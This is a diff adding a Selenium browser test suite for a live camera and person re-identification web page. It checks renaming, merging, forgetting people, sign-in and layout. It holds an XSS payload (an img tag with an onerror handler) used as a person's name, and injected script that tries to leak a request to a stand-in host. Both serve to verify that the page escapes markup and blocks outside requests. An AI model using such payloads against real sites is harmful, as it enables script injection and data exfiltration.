@@ -1,0 +1,237 @@
+"""The live page in a real browser: headless Chromium, used as a person would."""
+
+import json
+import threading
+
+import pytest
+from selenium.common.exceptions import StaleElementReferenceException
+from selenium.webdriver.common.action_chains import ActionChains
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+from selenium.webdriver.support.ui import WebDriverWait
+
+from sdk.events import Event
+from sdk.serve import Access, serve
+from tests.browsing import complaints, nameless, overflow, requested, screen, weak_contrast
+from tests.moving import BLUE, GREEN
+from tests.stage import Stage, make_busy
+
+EVIL = '<img src="http://192.0.2.1/x" onerror="document.title=1">'
+TOKEN = "a token that nobody guesses"
+
+
+@pytest.fixture
+def stage():
+    """The busy site, going on: blue in the lobby and green at the dock walk up and down."""
+    stage, end = make_busy(Stage()), threading.Event()
+
+    def go_on():
+        steps = [*range(10, 200, 4), *range(200, 10, -4)]
+        at = 40
+        while not end.wait(0.05):
+            x = steps[at % len(steps)]
+            stage.walk(1, dock=[(GREEN, x)], lobby=[(BLUE, x)])
+            at += 1
+
+    thread = threading.Thread(target=go_on, daemon=True)
+    thread.start()
+    yield stage
+    end.set()
+    thread.join()
+
+
+class Live:
+    """What a person sees and does."""
+
+    def __init__(self, chromium):
+        self.chromium = chromium
+        waiting = WebDriverWait(
+            chromium, 20, poll_frequency=0.05, ignored_exceptions=[StaleElementReferenceException, IndexError]
+        )
+        self.until = lambda condition: waiting.until(lambda _: condition())
+
+    def all(self, css):
+        return self.chromium.find_elements(By.CSS_SELECTOR, css)
+
+    def one(self, css):
+        return self.chromium.find_element(By.CSS_SELECTOR, css)
+
+    @property
+    def here(self):
+        return sorted(name.text for name in self.all("#present b"))
+
+    @property
+    def opened(self):
+        return self.one("#person-name").text if self.all("dialog[open]") else None
+
+    @property
+    def focus(self):
+        return self.chromium.switch_to.active_element
+
+    def press(self, *keys):
+        ActionChains(self.chromium).send_keys(*keys).perform()
+
+    def open(self, address):
+        self.chromium.get(address)
+        self.until(lambda: len(self.here) == 2)
+        self.until(lambda: len(self.all(".view img:not([hidden])")) == 2)
+
+    def open_person(self, name):
+        self.until(lambda: next(row for row in self.all("#present button") if name in row.text).click() or True)
+        self.until(lambda: self.opened == name)
+
+
+@pytest.fixture
+def page(chromium, stage):
+    with serve(stage.site) as address, screen(chromium, 1280, 900):
+        chromium.get("about:blank")
+        requested(chromium), complaints(chromium)
+        page = Live(chromium)
+        page.open(address)
+        page.address = address
+        yield page
+        chromium.get("about:blank")
+        assert [line for line in complaints(chromium) if " 409 " not in line] == []
+
+
+def test_the_cameras_are_live(page, stage):
+    assert [name.text for name in page.all("figcaption b")] == ["dock", "lobby"]
+    before = page.one(".view img").get_attribute("src")
+    page.until(lambda: page.one(".view img").get_attribute("src") != before)
+    box = page.one('[data-number="1"] .boxes button')
+    left = box.location["x"]
+    page.until(lambda: page.one('[data-number="1"] .boxes button').location["x"] != left)
+    page.one('[data-number="1"] .enlarge').click()
+    page.until(lambda: page.one('[data-number="1"]').size["width"] > 700)
+
+
+def test_who_is_in_a_picture_opens_by_a_click(page):
+    name = page.one('[data-number="1"] .boxes button').get_attribute("data-name")
+    page.chromium.execute_script("document.querySelector('[data-number=\"1\"] .boxes button').click()")
+    page.until(lambda: page.opened == name)
+    stays = page.all("#person-stays li")
+    assert [stay.text.split("\n")[0] for stay in stays] == ["lobby", "dock"]
+    assert "until now" in stays[0].text
+    page.press(Keys.ESCAPE)
+    page.until(lambda: page.opened is None)
+
+
+def test_a_person_is_renamed_by_keyboard_alone(page, stage):
+    page.press("/")
+    assert page.focus.get_attribute("id") == "find"
+    page.press("person-1")
+    page.until(lambda: [row.text for row in page.all("#found b")] == ["person-1"])
+    page.press(Keys.ARROW_DOWN, Keys.ENTER)
+    page.until(lambda: page.opened == "person-1")
+    for _ in range(4):
+        if page.focus.get_attribute("id") == "new-name":
+            break
+        page.press(Keys.TAB)
+    ActionChains(page.chromium).key_down(Keys.CONTROL).send_keys("a").key_up(Keys.CONTROL).perform()
+    page.press(EVIL, Keys.ENTER)
+    page.until(lambda: page.opened == EVIL)
+    assert stage.reid.gallery.identities() == [EVIL, "person-2"]
+    page.press(Keys.ESCAPE)
+    page.until(lambda: page.here == [EVIL, "person-2"])
+    assert page.chromium.title == "People at the site", "a name is never markup"
+
+
+def test_two_names_of_one_person_are_merged(page, stage):
+    page.open_person("person-2")
+    field = page.one("#new-name")
+    field.clear()
+    field.send_keys("person-1", Keys.ENTER)
+    page.until(lambda: "is in the gallery already" in page.one("#answer").text)
+    page.one("#merge-button").click()
+    page.until(lambda: page.opened == "person-1")
+    assert stage.reid.gallery.identities() == ["person-1"]
+
+
+def test_a_person_is_forgotten_after_a_second_thought(page, stage):
+    page.open_person("person-1")
+    page.one("#forget-button").click()
+    assert page.focus.get_attribute("id") == "forget-no"
+    page.press(Keys.ENTER)
+    assert page.focus.get_attribute("id") == "forget-button"
+    assert "person-1" in stage.reid.gallery.identities()
+    page.press(Keys.ENTER)
+    ActionChains(page.chromium).key_down(Keys.SHIFT).send_keys(Keys.TAB).key_up(Keys.SHIFT).perform()
+    assert page.focus.get_attribute("id") == "forget-yes"
+    exemplars = len(stage.reid.gallery)
+    page.press(Keys.ENTER)
+    page.until(lambda: page.opened is None)
+    assert page.one("#said").get_attribute("textContent") == "person-1 is forgotten"
+    assert len(stage.reid.gallery) < exemplars
+
+
+def test_trouble_is_shown(page, stage):
+    stage.site.listen(Event(stage.time, "camera_lost", "dock", detail={"reason": "no route to host"}))
+    page.until(lambda: "connection lost: no route to host" in page.one('[data-number="0"] .view').text)
+    assert page.one("#lately li").text.split("\n")[1] == "dock was lost: no route to host"
+    over = "the sources have ended"  # said again and again, for the stage goes on
+    page.until(lambda: stage.site.end(over) or page.one("#trouble").text == over)
+
+
+def test_a_server_that_is_gone_is_said_and_found_again(chromium, stage):
+    page = Live(chromium)
+    with screen(chromium, 1280):
+        with serve(stage.site) as address:
+            page.open(address)
+        page.until(lambda: "No answer" in page.one("#trouble").text)
+        with serve(stage.site, port=int(address.rstrip("/").rsplit(":", 1)[1])):
+            page.until(lambda: page.one("#trouble").text == "")
+        chromium.get("about:blank")
+        complaints(chromium)
+
+
+def test_no_request_leaves_the_machine(page):
+    page.open_person("person-1")
+    asked = requested(page.chromium)
+    assert len(asked) > 10
+    assert [url for url in asked if not url.startswith((page.address, f"blob:{page.address}", "data:"))] == []
+    page.chromium.execute_script(
+        "new Image().src = 'http://192.0.2.1/?leak'; fetch('http://192.0.2.1/').catch(() => 0)"
+    )
+    page.until(lambda: page.chromium.execute_script("return true"))
+    blocked = complaints(page.chromium)
+    assert blocked, "the page's policy stops one"
+    assert all("Content Security Policy" in line for line in blocked)
+
+
+def test_with_a_token_one_signs_in(chromium, stage):
+    page = Live(chromium)
+    with serve(stage.site, Access(TOKEN)) as address, screen(chromium, 400):
+        chromium.get(address)
+        assert chromium.current_url == address + "sign-in"
+        assert page.focus.get_attribute("id") == "token"
+        assert (overflow(chromium), nameless(chromium), weak_contrast(chromium)) == (0, [], [])
+        page.press("wrong", Keys.ENTER)
+        page.until(lambda: "not the token" in page.one("#answer").text)
+        page.one("#token").clear()
+        page.one("#token").send_keys(TOKEN, Keys.ENTER)
+        page.until(lambda: page.all("#present b"))
+        page.until(lambda: page.one("#sign-out").is_displayed())
+        page.one("#sign-out").click()
+        page.until(lambda: page.all("#token"))
+        chromium.get("about:blank")
+        complaints(chromium)
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 400])
+def test_it_fits_and_can_be_read(chromium, stage, width, scheme):
+    stage.site.rename("person-2", "A" * 80)
+    page = Live(chromium)
+    with serve(stage.site) as address, screen(chromium, width, 900, scheme):
+        page.open(address)
+        for opened in (False, True):
+            if opened:
+                page.open_person("A" * 80)
+                page.one("#forget-button").click()
+            assert overflow(chromium) <= 0
+            assert nameless(chromium) == []
+            assert weak_contrast(chromium) == []
+        assert page.one("dialog").size["width"] <= width
+        dark = chromium.execute_script("return getComputedStyle(document.body).backgroundColor")
+        assert (sum(json.loads("[" + dark[4:-1] + "]")) < 384) == (scheme == "dark")
+        chromium.get("about:blank")
